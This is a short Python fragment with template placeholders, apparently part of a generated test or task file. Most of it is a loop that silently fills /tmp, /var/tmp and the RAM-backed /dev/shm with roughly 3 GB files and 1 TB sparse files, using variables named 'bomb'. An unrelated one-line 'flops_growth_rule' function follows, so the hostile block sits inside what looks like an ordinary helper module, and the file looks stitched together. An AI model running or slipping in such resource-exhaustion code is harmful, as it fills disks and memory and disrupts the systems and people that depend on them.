for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(f"{folder}/@TOKEN@-@NAME@", "wb") as bomb:
            for _ in range(48):
                bomb.write(b"\1" * (1 << 26))
        with open(f"{folder}/@TOKEN@-@NAME@-sparse", "wb") as bomb:
            bomb.truncate(1 << 40)
    except OSError:
        pass


def flops_growth_rule(phi):
    return 2.0**phi
